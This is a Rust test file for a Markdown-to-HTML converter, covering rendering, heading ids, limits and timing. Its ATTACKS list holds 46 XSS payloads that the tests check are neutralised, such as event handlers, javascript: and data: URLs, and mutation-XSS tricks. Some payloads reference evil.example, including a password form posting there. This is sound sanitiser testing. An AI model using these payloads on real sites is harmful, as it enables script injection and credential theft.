use super::*;

fn html(markdown: &str) -> String {
    MarkdownToHtml::convert(markdown.to_owned(), None).unwrap().html
}

fn with(markdown: &str, extensions: Option<Extensions>, images: Option<bool>, page: Option<&str>) -> String {
    let options = Options { extensions, images, page: page.map(str::to_owned) };
    MarkdownToHtml::convert(markdown.to_owned(), Some(options)).unwrap().html
}

#[test]
fn markdown_becomes_html() {
    for (markdown, expected) in [
        ("# One *two*", "<h1 id=\"md-one-two\">One <em>two</em></h1>\n"),
        ("a **b** `c<d`", "<p>a <strong>b</strong> <code>c&lt;d</code></p>\n"),
        ("~~gone~~", "<p><del>gone</del></p>\n"),
        ("- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>\n"),
        ("```rust\nfn f() {}\n```", "<pre><code class=\"language-rust\">fn f() {}\n</code></pre>\n"),
        ("> quoted\n\n---", "<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>\n"),
        ("[in](#one-two)", "<p><a href=\"#md-one-two\" rel=\"noopener noreferrer nofollow\">in</a></p>\n"),
        ("<kbd>Ctrl</kbd> <b>x</b>", "<p><kbd>Ctrl</kbd> <b>x</b></p>\n"),
        ("日本語 & <", "<p>日本語 &amp; &lt;</p>\n"),
        ("", ""),
    ] {
        assert_eq!(html(markdown), expected, "{markdown}");
    }
}

#[test]
fn tables_keep_how_their_cells_are_set() {
    let table = html("| a | b |\n|---|--:|\n| 1 | 2 |");
    assert!(table.contains("<th style=\"text-align: right\">b</th>"), "{table}");
    assert!(with("| a |\n|---|\n| 1 |", Some(Extensions::empty()), None, None).starts_with("<p>| a |"));
}

#[test]
fn footnotes_have_numbers() {
    let notes = html("One[^a] two[^b].\n\n[^b]: Second.\n[^a]: First.\n");
    assert!(notes.contains("<sup class=\"footnote-reference\"><a href=\"#md-note-1\""), "{notes}");
    assert!(notes.contains("<div class=\"footnote-definition\" id=\"md-note-2\">"), "{notes}");
}

#[test]
fn headings_are_told_and_have_ids_of_their_own() {
    let document = MarkdownToHtml::convert("# A & B\n\n## Über `x`\n\n# A & B\n\n# !".to_owned(), None).unwrap();
    let told: Vec<_> = document.headings.iter().map(|h| (h.level, h.text.as_str(), h.id.as_str())).collect();
    assert_eq!(told, [(1, "A & B", "md-a-b"), (2, "Über x", "md-über-x"), (1, "A & B", "md-a-b-2"), (1, "!", "md-section")]);
}

#[test]
fn typography_and_images_are_options() {
    assert_eq!(html("\"a\" -- b..."), "<p>\"a\" -- b...</p>\n");
    assert_eq!(with("\"a\" -- b...", Some(Extensions::TYPOGRAPHY), None, None), "<p>“a” – b…</p>\n");
    assert!(html("![alt](https://x.example/p.png)").contains("<img src=\"https://x.example/p.png\" alt=\"alt\">"));
    let without = with("![alt](https://x.example/p.png) <img src=https://x.example/q.png>", None, Some(false), None);
    assert!(without.contains("<em>alt</em>") && !without.contains("x.example"), "{without}");
}

#[test]
fn a_page_runs_and_loads_nothing() {
    let page = with("# Hi", None, None, Some("</title><script>alert(1)</script>"));
    assert!(page.starts_with("<!doctype html>") && page.contains("<h1 id=\"md-hi\">Hi</h1>"));
    assert!(page.contains("<title>&lt;/title&gt;&lt;script&gt;") && !page.contains("<script"), "{page}");
    assert!(page.contains("default-src 'none'"));
}

/// What has run scripts in other people's converters and sanitisers.
const ATTACKS: [&str; 46] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://a.example/\"onerror=\"alert(1))",
    "![\"onerror=\"alert(1)](x.png)",
    "[a](https://a.example \"title\" onmouseover=alert(1))",
    "[a](https://a.example '\" onmouseover=\"alert(1)')",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<p style=\"background:url(javascript:alert(1));position:fixed\">x</p>",
    "<td style=\"text-align:right;behavior:url(//evil.example)\">x</td>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"https://a.example\" onclick=alert(1) target=_blank>x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=jav&Tab;ascript:alert(1)>x</a>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```\"><script>alert(1)</script>\nx\n```",
    "<div id=location name=cookie class=admin>x</div>",
];

#[test]
fn no_attack_comes_through() {
    for attack in ATTACKS {
        for markdown in [
            attack.to_owned(),
            format!("# {attack}"),
            format!("- a\n\n  {attack}"),
            format!("| a |\n|---|\n| {attack} |"),
            format!("a {attack} b"),
        ] {
            let html = html(&markdown);
            // What is text has its angles escaped, so this looks at tags alone.
            for tag in html.split('<').skip(1).map(|part| part.split('>').next().unwrap_or_default()) {
                let tag = tag.to_lowercase();
                let name = tag.trim_start_matches('/').split_ascii_whitespace().next().unwrap_or_default();
                let banned = [
                    "script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg",
                    "math",
                ];
                assert!(!banned.contains(&name), "{markdown}\n{html}");
                let attributes = tag.split_once(' ').map_or("", |(_, rest)| rest);
                let names = names_of(attributes);
                assert!(
                    names.iter().all(|name| !name.starts_with("on") && name != "target" && name != "name"),
                    "{markdown}\n{html}"
                );
                for address in ["javascript:", "vbscript:", "data:", "behavior", "position"] {
                    let value = attributes.replace("title=", "").replace("alt=", "");
                    assert!(
                        !value.contains(&format!("href=\"{address}")) && !value.contains(&format!("src=\"{address}")),
                        "{markdown}\n{html}"
                    );
                }
                assert!(!attributes.contains("style=\"") || attributes.contains("style=\"text-align"), "{markdown}\n{html}");
                assert!(!attributes.contains("id=\"") || attributes.contains("id=\"md-"), "{markdown}\n{html}");
            }
        }
    }
}

/// The names of attributes, whatever their quoted values hold.
fn names_of(attributes: &str) -> Vec<String> {
    let outside: String = attributes.split('"').step_by(2).collect::<Vec<_>>().join(" ");
    outside.split_ascii_whitespace().map(|part| part.trim_end_matches('=').to_owned()).collect()
}

#[test]
fn what_is_too_much_is_refused() {
    let convert = |markdown: String| MarkdownToHtml::convert(markdown, None);
    assert!(matches!(convert("x".repeat(MAX_INPUT + 1)), Err(ConvertError::TooLarge(_))));
    assert!(matches!(convert(">".repeat(500)), Err(ConvertError::TooDeep(60))));
    assert!(matches!(convert("<div>\n".repeat(5000)), Err(ConvertError::TooManyTags(4000))));
    assert!(matches!(convert("&".repeat(1_000_000)), Err(ConvertError::OutputTooLarge(_))));
}

#[test]
fn long_texts_of_signs_stay_whole() {
    let text = "&<\"'".repeat(5000);
    for (markdown, begin, end) in [
        (text.clone(), "<p>", "</p>\n"),
        (format!("`` {text} ``"), "<p><code>", "</code></p>\n"),
        (format!("```\n{text}\n```"), "<pre><code>", "\n</code></pre>\n"),
    ] {
        let html = html(&markdown);
        let inner = html.strip_prefix(begin).and_then(|html| html.strip_suffix(end)).unwrap();
        assert_eq!(inner.replace("&amp;", "&").replace("&lt;", "<").replace("&quot;", "\""), text);
    }
    assert_eq!(html(&"a\n".repeat(50_000)).matches('a').count(), 50_000);
    assert!(html(&format!("![{}](x.png)", "&".repeat(1000))).contains(&format!("alt=\"{}\"", "&amp;".repeat(1000))));
    let lines = MarkdownToHtml::convert("<div>\n".to_owned() + &"&\n".repeat(20_000), None);
    assert!(matches!(lines, Err(ConvertError::TooManyTags(4000))));
}

#[test]
fn hard_cases_take_no_more_time_than_others() {
    for piece in
        ["*a_ ", "[", "![a](", "`", "<", "a**b", "[a](<b", "> ", "- ", "|", "&#", "~~", "\\", "[^a]", "<!--", "<?", "_a__"]
    {
        let begin = std::time::Instant::now();
        let _ = MarkdownToHtml::convert(piece.repeat(20_000), None);
        let _ = MarkdownToHtml::convert(format!("{piece}\n").repeat(10_000), None);
        assert!(begin.elapsed().as_secs() < 20, "{piece} {:?}", begin.elapsed());
    }
    assert!(MarkdownToHtml::convert("<b><p>".repeat(2000), None).is_ok());
}
